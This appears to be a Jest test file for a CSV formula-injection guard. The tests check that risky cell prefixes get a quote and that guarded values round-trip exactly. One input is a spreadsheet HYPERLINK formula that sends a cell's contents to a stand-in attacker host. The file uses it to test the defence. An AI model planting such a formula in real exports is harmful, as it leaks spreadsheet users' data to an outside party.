import { guardFormula, unguardFormula } from './csv-formula-guard';

describe('CSV formula guard', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', `'=HYPERLINK("http://evil.example/?x="&A1,"Klik")`],
    ['+31 30 123 4567', "'+31 30 123 4567"],
    ['-5 graden', "'-5 graden"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ["'=1+1", "''=1+1"],
  ])('prefixes %j', (value, exported) => {
    expect(guardFormula(value)).toBe(exported);
  });

  it.each(['Voedselbank Utrecht', "'s-Hertogenbosch", "'t Hoekje", 'a=b', '', "'"])('leaves %j as it is', (value) => {
    expect(guardFormula(value)).toBe(value);
  });

  it.each(["'-5", "''=1", "'\t=x", "'s-Hertogenbosch", "'", "''", 'gewoon', '=raw', "'''@x"])('round-trips %j exactly', (value) => {
    expect(unguardFormula(guardFormula(value))).toBe(value);
  });

  it('takes off exactly one quote, and only before a trigger', () => {
    expect(unguardFormula("'=1+1")).toBe('=1+1');
    expect(unguardFormula("''=1+1")).toBe("'=1+1");
    expect(unguardFormula("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(unguardFormula("'Hallo")).toBe("'Hallo");
  });
});
